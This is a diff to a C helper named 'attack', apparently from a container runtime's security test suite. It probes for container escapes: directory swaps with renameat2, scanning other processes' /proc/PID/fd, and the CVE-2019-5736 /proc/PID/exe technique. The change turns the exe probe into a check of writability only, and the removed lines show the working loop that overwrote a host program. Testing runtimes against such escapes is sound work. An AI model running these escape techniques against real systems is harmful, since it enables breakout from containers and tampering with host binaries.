@@ -5,7 +5,7 @@
  *
  *   swap A B          exchanges two names of one directory, as fast as the kernel allows (renameat2 RENAME_EXCHANGE)
  *   fds NAME [MS]     looks into /proc/PID/fd of every other process for a directory from which a file NAME can be opened, by ".." too
- *   exe TEXT [MS]     opens /proc/PID/exe of every other process and tries to write TEXT into it (CVE-2019-5736)
+ *   exe [MS]          opens /proc/PID/exe of every other process, and when that has ended, again for writing (CVE-2019-5736)
  *   open PATH         opens PATH for reading and writing; prints "open" or the error, ends
  *   console SOCKET    the other side of --console-socket: takes the terminal, prints what comes out of it, ends when it hangs up
  */
@@ -95,44 +95,56 @@ static int try_fds(const char *pid, const char *name)
 	return 0;
 }
 
-static int try_exe(const char *pid, const char *text)
+/* The programs met so far: held open for reading, because while one runs its text is busy and cannot be opened for writing. */
+static struct held {
+	char pid[16], name[256];
+	int fd;
+} held[64];
+static size_t n_held;
+
+static void hold(const char *pid)
 {
-	static char tried[64];
-	char path[64], self[64], name[256];
+	struct held *h = &held[n_held];
 	struct stat mine, theirs;
-	int fd, w;
+	char path[64];
 	ssize_t n;
 
+	for (size_t i = 0; i < n_held; i++)
+		if (strcmp(held[i].pid, pid) == 0)
+			return;
+	if (n_held == sizeof held / sizeof *held)
+		return;
 	snprintf(path, sizeof path, "/proc/%s/exe", pid);
-	fd = open(path, O_RDONLY);
-	if (fd < 0)
-		return 0;
-	n = readlink(path, name, sizeof name - 1);
-	name[n < 0 ? 0 : n] = '\0';
-	/* Programs of the container's own tree are no prize. */
-	if (fstat(fd, &theirs) < 0 || stat("/bin/busybox", &mine) < 0 || theirs.st_dev == mine.st_dev) {
-		close(fd);
-		return 0;
+	h->fd = open(path, O_RDONLY);
+	if (h->fd < 0)
+		return;
+	n = readlink(path, h->name, sizeof h->name - 1);
+	h->name[n < 0 ? 0 : n] = '\0';
+	/* Programs of the container's own tree, found there under that name, are no prize. */
+	if (fstat(h->fd, &theirs) < 0 || (stat(h->name, &mine) == 0 && theirs.st_dev == mine.st_dev && theirs.st_ino == mine.st_ino)) {
+		close(h->fd);
+		return;
 	}
-	if (strcmp(tried, pid) != 0) {
-		snprintf(tried, sizeof tried, "%s", pid);
-		printf("met %s\n", name);
-		fflush(stdout);
-	}
-	/* While it runs the text is busy: keep the descriptor and try until it has ended. */
-	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
-	for (int i = 0; i < 2000; i++) {
-		w = open(self, O_WRONLY | O_TRUNC);
-		if (w >= 0) {
-			printf("ESCAPE wrote to %s: %zd\n", name, write(w, text, strlen(text)));
+	snprintf(h->pid, sizeof h->pid, "%s", pid);
+	n_held++;
+	printf("met %s\n", h->name);
+	fflush(stdout);
+}
+
+/* Being able to open it for writing is proof enough; nothing is written, or a failing test would cost the host its programs. */
+static int try_exe(const char *pid, const char *unused __attribute__((unused)))
+{
+	hold(pid);
+	for (size_t i = 0; i < n_held; i++) {
+		char self[64];
+
+		snprintf(self, sizeof self, "/proc/self/fd/%d", held[i].fd);
+		if (open(self, O_WRONLY) >= 0) {
+			printf("ESCAPE %s can be written\n", held[i].name);
 			fflush(stdout);
 			return 1;
 		}
-		if (errno != ETXTBSY)
-			break;
-		usleep(500);
 	}
-	close(fd);
 	return 0;
 }
 
@@ -143,7 +155,7 @@ static int attack_fds(char **argv)
 
 static int attack_exe(char **argv)
 {
-	return each_process(argv[1] ? atol(argv[1]) : 0, try_exe, argv[0]);
+	return each_process(argv[0] ? atol(argv[0]) : 0, try_exe, NULL);
 }
 
 static int attack_open(char **argv)
@@ -185,7 +197,7 @@ static const struct attack {
 } attacks[] = {
 	{ "swap", 2, attack_swap },
 	{ "fds", 1, attack_fds },
-	{ "exe", 1, attack_exe },
+	{ "exe", 0, attack_exe },
 	{ "open", 1, attack_open },
 	{ "console", 1, attack_console },
 };
@@ -195,6 +207,6 @@ int main(int argc, char **argv)
 	for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
 		if (argc >= 2 + attacks[i].words && strcmp(argv[1], attacks[i].name) == 0)
 			return attacks[i].run(argv + 2);
-	fputs("usage: attack swap A B | fds NAME [MS] | exe TEXT [MS] | open PATH | console SOCKET\n", stderr);
+	fputs("usage: attack swap A B | fds NAME [MS] | exe [MS] | open PATH | console SOCKET\n", stderr);
 	return 2;
 }
